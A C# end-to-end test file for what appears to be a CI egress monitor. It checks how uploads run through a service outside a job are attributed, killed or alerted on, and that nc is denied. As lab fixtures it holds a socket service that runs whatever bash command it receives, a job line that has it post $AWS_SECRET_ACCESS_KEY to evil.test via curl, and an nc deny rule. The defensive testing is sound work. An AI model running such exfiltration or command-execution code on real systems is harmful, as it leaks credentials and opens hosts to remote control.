using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using BuildSentry.Testing;
using BuildSentry.Testing.Lab;
using static BuildSentry.EndToEnd.ScenarioTests;

namespace BuildSentry.EndToEnd;

/// <summary>
/// Egress that no job owns, in the lab: a job has a root service outside its process tree run its upload (as a build asks
/// dockerd, or uses systemd-run). On an exclusive host the job answers for it; on a shared host it is unattributed
/// egress. The host's own traffic, allowed by the host profile, raises nothing.
/// </summary>
[Collection(LabCollection.Name)]
public sealed class HostEgressTests(NetworkLabFixture fixture)
{
    private const string HostProfile = """
        name: host
        egress:
          - { host: mirror.test, ports: [80], protocol: tcp }
        """;

    // A service that runs whatever a connection sends it, in a session of its own: outside every job.
    private const string Service = """
        import socket, subprocess, sys
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("127.0.0.1", int(sys.argv[1])))
        s.listen()
        while True:
            c, _ = s.accept()
            data = b""
            while chunk := c.recv(65536):
                data += chunk
            c.close()
            subprocess.Popen(["bash", "-c", data.decode()], start_new_session=True)
        """;

    private NetworkLab Lab => fixture.Lab;

    [Theory]
    [InlineData("true", "kill")]
    [InlineData("true", "audit")]
    [InlineData("true", "prevent")]
    [InlineData("false", "kill")]
    [InlineData("false", "audit")]
    public async Task A_jobs_upload_run_by_a_service_outside_it_is_the_jobs_on_an_exclusive_host_and_unattributed_on_a_shared_one(
        string exclusive, string mode)
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup(mode)
        {
            ExtraConfiguration = $"host:\n  exclusive: {exclusive}\n",
            ExtraProfiles = new Dictionary<string, string> { ["host.yaml"] = HostProfile },
        });
        var port = FreePort();
        using var service = Lab.StartJob(["python3", "-c", Service, port.ToString(System.Globalization.CultureInfo.InvariantCulture)]);
        try
        {
            await WaitListeningAsync(port);
            var before = CollectedBytes();
            using var job = BuildJob.Start(Lab, $"""
                exec 3<>/dev/tcp/127.0.0.1/{port}
                printf '%s' "curl -s --data-binary $AWS_SECRET_ACCESS_KEY http://evil.test/collect" >&3
                exec 3>&-
                sleep 4
                echo build finished
                """);
            var result = await job.WaitAsync();
            var upload = await daemon.WaitForAlertAsync(a => Names(a).Contains("evil.test") && Str(a, "exe").EndsWith("/curl", StringComparison.Ordinal));
            var uploadPid = int.Parse(Str(upload, "pid"), System.Globalization.CultureInfo.InvariantCulture);

            if (exclusive == "true")
            {
                Assert.Equal(job.JobId, Str(upload, "job"));
                Assert.Contains(Kind(upload), new[] { "egress.dns", "egress.connection" });
                var report = await ReportAsync(daemon, job);
                Assert.True(report.GetProperty("outsideFlows").GetInt64() >= 1);
            }
            else
            {
                Assert.Equal("", Str(upload, "job"));
                Assert.Equal("egress.unattributed", Kind(upload));
                Assert.Contains("no job owns the flow", Str(upload, "reason"));
            }

            // Prevent mode holds only the job's own processes in the kernel: the outside upload is killed as in kill mode.
            if (exclusive == "true" && mode != "audit")
            {
                Assert.Equal("killed", Str(upload, "action"));
                Assert.NotEqual(0, result.ExitCode);
                Assert.DoesNotContain("build finished", result.StandardOutput);
                Assert.Equal(before, CollectedBytes());
                Assert.False(IsRunning(uploadPid), $"the outside upload {uploadPid} survived");
            }
            else
            {
                Assert.Equal("alerted", Str(upload, "action"));
                Assert.Equal(0, result.ExitCode);
                Assert.Contains("build finished", result.StandardOutput);
                await WaitAsync(() => CollectedBytes() - before >= BuildJob.Secret.Length, "the audit-mode upload to reach evil.test");
            }
        }
        finally
        {
            service.Kill(entireProcessTree: true);
        }
    }

    [Fact]
    public async Task The_hosts_own_traffic_allowed_by_the_host_profile_raises_nothing_on_an_exclusive_host()
    {
        await Lab.SetDelayAsync(TimeSpan.Zero);
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill")
        {
            ExtraConfiguration = "host:\n  exclusive: true\n",
            ExtraProfiles = new Dictionary<string, string> { ["host.yaml"] = HostProfile },
        });
        using var job = BuildJob.Start(Lab, """
            sleep 3
            curl -sf http://registry.test/ok > /dev/null
            echo build finished
            """);
        var host = await Lab.RunInLabAsync("bash", "-c", "for i in 1 2 3; do curl -s -o /dev/null http://mirror.test/ok; done; echo done");
        var result = await job.WaitAsync();

        Assert.Contains("done", host.StandardOutput);
        Assert.Equal(0, result.ExitCode);
        Assert.Contains("build finished", result.StandardOutput);
        var status = JsonDocument.Parse((await daemon.CliAsync("status", "--json")).StandardOutput).RootElement.GetProperty("counters");
        Assert.True(status.GetProperty("hostAllowedFlows").GetInt64() >= 3, status.ToString());
        Assert.DoesNotContain(daemon.AlertRecords(), a => Names(a).Contains("mirror.test") || Str(a, "job") == job.JobId);
    }

    [Theory]
    [InlineData("ebpf", "/usr/bin/nc")]
    [InlineData("proc-connector", "/usr/bin/nc.openbsd")]
    public async Task Nc_run_through_the_debian_alternatives_link_is_denied_and_killed(string sensor, string exe)
    {
        // Debian's alternatives: /usr/bin/nc -> /etc/alternatives/nc -> /bin/nc.openbsd (/bin itself a link to usr/bin).
        Assert.Equal("nc.openbsd", new FileInfo("/usr/bin/nc").ResolveLinkTarget(returnFinalTarget: true)?.Name);
        await Lab.SetDelayAsync(TimeSpan.Zero);
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill") { ExtraConfiguration = $"process_sensor: {sensor}\n" });
        using var job = BuildJob.Start(Lab, """
            nc -z registry.test 80
            sleep 3
            echo build finished
            """);
        var result = await job.WaitAsync();

        var alert = await daemon.WaitForAlertAsync(a => Str(a, "job") == job.JobId && Kind(a) == "process.denied");
        Assert.Equal(exe, Str(alert, "exe"));
        Assert.Equal("killed", Str(alert, "action"));
        Assert.Contains("rule 'nc'", Str(alert, "reason"));
        Assert.NotEqual(0, result.ExitCode);
        Assert.DoesNotContain("build finished", result.StandardOutput);
    }

    private static int FreePort()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        return ((IPEndPoint)listener.LocalEndpoint).Port;
    }

    private static async Task WaitListeningAsync(int port) => await WaitAsync(() =>
    {
        using var client = new TcpClient();
        try
        {
            client.Connect(IPAddress.Loopback, port);
            return true;
        }
        catch (SocketException)
        {
            return false;
        }
    }, $"the service to listen on {port}");

    private static async Task WaitAsync(Func<bool> condition, string what)
    {
        var clock = Stopwatch.StartNew();
        while (!condition())
        {
            Assert.True(clock.Elapsed < TimeSpan.FromSeconds(15), $"timed out waiting for {what}");
            await Task.Delay(50);
        }
    }

    private static bool IsRunning(int pid)
    {
        try
        {
            var stat = File.ReadAllText($"/proc/{pid}/stat");
            return !stat[(stat.LastIndexOf(')') + 2)..].StartsWith('Z');
        }
        catch (IOException)
        {
            return false;
        }
    }

    /// <summary>Bytes evil.test's /collect has received, summed over its log.</summary>
    private static long CollectedBytes()
    {
        var log = Path.Combine(NetworkLab.StateDirectory, "recv", "evil.test.log");
        return File.Exists(log)
            ? File.ReadAllLines(log).Select(l => l.Split(' ')).Where(f => f.Length > 5 && f[5].StartsWith("/collect", StringComparison.Ordinal))
                .Sum(f => long.Parse(f[3], System.Globalization.CultureInfo.InvariantCulture))
            : 0;
    }
}
